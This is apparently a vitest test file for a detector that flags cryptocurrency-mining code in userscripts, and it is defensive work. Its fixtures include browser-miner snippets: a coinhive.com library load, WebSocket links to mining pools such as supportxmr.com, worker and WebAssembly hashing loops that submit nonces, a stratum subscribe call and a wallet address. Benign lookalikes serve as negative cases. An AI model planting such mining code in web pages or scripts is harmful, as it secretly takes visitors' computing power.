import { describe, expect, test } from "vitest";
import { findIn, userscript } from "../testing/find-in.ts";
import { miner } from "./miner.ts";

describe("miner", () => {
	test.each([
		[
			"a known library",
			["critical 4", "critical 6"],
			userscript(
				["match https://shop.example/*", "require https://coinhive.com/lib/coinhive.min.js"],
				`new CoinHive.Anonymous("key").start()`,
			),
		],
		[
			"a pool",
			["critical 5"],
			userscript(["match https://shop.example/*"], `const w=new WebSocket("wss://ws.supportxmr.com/");w.send("{}")`),
		],
		[
			"a miner by no name",
			["critical 5"],
			userscript(
				["match https://shop.example/*"],
				`const w=new Worker(URL.createObjectURL(new Blob(["let nonce=0;onmessage=e=>{for(;;){nonce++}}"])));
const s=new WebSocket("wss://pool.stranger.test/");
s.onmessage=e=>{const m=JSON.parse(e.data);w.postMessage({job:m.job,difficulty:m.difficulty,target:m.target})};
w.onmessage=e=>s.send(JSON.stringify({submit:e.data.nonce,wallet:"x",threads:4}))`,
			),
		],
		[
			"the language of pools over a socket, hashed with digests",
			["critical 6"],
			userscript(
				["match https://shop.example/*"],
				`const s=new WebSocket("wss://pool.stranger.test/");
s.onopen=()=>s.send(JSON.stringify({id:1,method:"mining."+"subscribe",params:["x"]}));
s.onmessage=async(e)=>{await crypto.subtle.digest("SHA-256",new TextEncoder().encode(e.data))}`,
			),
		],
		[
			"jobs hashed by compiled code",
			["high 8"],
			userscript(
				["match https://shop.example/*"],
				`let task;
const line=new WebSocket("wss://node.stranger.test:3333");
WebAssembly.instantiate(bytes).then(({instance:{exports:engine}})=>{line.onmessage=({data})=>{task=JSON.parse(data);engine.load(task.blob)};
setInterval(()=>{const nonce=Math.random()*2**32;if(engine.hash(nonce))line.send(JSON.stringify({method:"submit",job_id:task.job_id,nonce}))},9)})`,
			),
		],
		[
			"a miner of any name that is given a payment address",
			["critical 5"],
			userscript(
				["match https://shop.example/*"],
				`new CoinLab.Hasher("48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD",{threads:2}).start()`,
			),
		],
		[
			"shares for a graphics card",
			["critical 6"],
			userscript(
				["match https://shop.example/*"],
				`navigator.gpu.requestAdapter().then(a=>a.requestDevice()).then(d=>d.createShaderModule({code:"fn f(){}"}));
fetch("https://work.stranger.test/",{method:"POST",body:'{"method":"eth_getWork","params":[]}'})`,
			),
		],
	])("finds %s", (_title, expected, code) => {
		expect(findIn(miner, code)).toEqual(expected);
	});

	test.each([
		[
			"a list of miners to block",
			userscript(
				["match https://shop.example/*"],
				`const blocked=["coinhive.com","crypto-loot.com","coinimp.com"];document.querySelectorAll("script").forEach(s=>{if(blocked.some(h=>s.src.includes(h)))s.remove()})`,
			),
		],
		[
			"a checksum in a worker",
			userscript(
				["match https://shop.example/*"],
				`const w=new Worker("/sha256.js");w.postMessage({blob:1});w.onmessage=e=>{document.title=e.data.hash}`,
			),
		],
		[
			"prices of currencies",
			userscript(
				["match https://shop.example/*"],
				`setInterval(()=>fetch("https://prices.stranger.test/monero").then(r=>r.json()).then(p=>{document.title=p.target}),60000)`,
			),
		],
		[
			"a signed request to a service",
			userscript(
				["match https://shop.example/*"],
				`const nonce=crypto.randomUUID();document.onclick=async({target})=>{const sign=await crypto.subtle.digest("SHA-256",nonce);
fetch("https://api.stranger.test/task?task_id="+target.id,{headers:{nonce,sign}})}`,
			),
		],
	])("leaves alone %s", (_title, code) => {
		expect(findIn(miner, code)).toEqual([]);
	});
});
